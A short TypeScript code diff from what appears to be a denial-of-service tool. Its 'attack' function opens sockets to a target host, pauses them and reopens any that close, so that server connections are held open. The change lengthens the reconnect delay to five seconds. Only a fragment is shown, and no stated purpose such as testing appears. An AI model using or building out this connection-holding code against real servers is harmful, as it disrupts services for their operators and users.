@@ -20,6 +20,7 @@ export interface Attack {
 }
 
 const LONGEST_MS = 120_000
+const AGAIN_AFTER_MS = 5000
 /** In one packet: more than a connection may leave unanswered, and as many as it may. */
 const QUESTIONS_AT_ONCE = [20, 8]
 
@@ -56,11 +57,11 @@ async function attack(url: string, plan: Plan): Promise<void> {
     sockets.add(socket)
     return socket
   }
-  /** Whoever is cut off comes again, after a breath. */
+  /** What is cut off comes again, later: this is about connections that are held, not about a flood of new ones. */
   const insist = (index: number, greeting: string | Buffer): void => {
     open(index, greeting)
       .pause()
-      .once('close', () => setTimeout(() => insist(index, greeting), 500))
+      .once('close', () => setTimeout(() => insist(index, greeting), AGAIN_AFTER_MS))
   }
   const head = `Host: ${target.host}\r\n`
 
